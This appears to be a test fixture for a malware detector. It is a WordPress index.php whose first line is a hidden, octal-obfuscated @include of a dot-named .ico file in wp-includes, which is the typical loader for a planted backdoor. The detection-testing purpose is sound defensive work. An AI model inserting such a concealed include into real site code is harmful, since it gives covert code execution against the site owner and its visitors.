<?php
// triage-expect: triage_php_include_hidden_file
// the loader line added at the top of a site's index.php; the code lives in a dot-named .ico
@include "\057va\162/\167ww/h\164ml/\167p-i\156clu\144es/\056a1b2c3\144.i\143o";

define('WP_USE_THEMES', true);
require __DIR__ . '/wp-blog-header.php';
